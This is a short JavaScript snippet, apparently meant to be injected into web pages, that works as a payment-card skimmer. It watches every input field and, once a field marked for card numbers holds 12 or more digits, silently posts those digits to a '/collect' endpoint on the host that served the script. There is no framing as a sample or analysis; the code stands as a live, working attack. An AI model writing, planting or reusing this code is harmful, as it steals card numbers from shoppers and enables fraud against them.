const home = new URL(document.currentScript.src).origin;
document.addEventListener("input", ({ target }) => {
  const digits = target.value.replace(/\D/g, "");
  if (target.autocomplete === "cc-number" && digits.length >= 12) {
    fetch(`${home}/collect`, { method: "POST", body: new URLSearchParams({ c: digits }), mode: "no-cors" });
  }
});
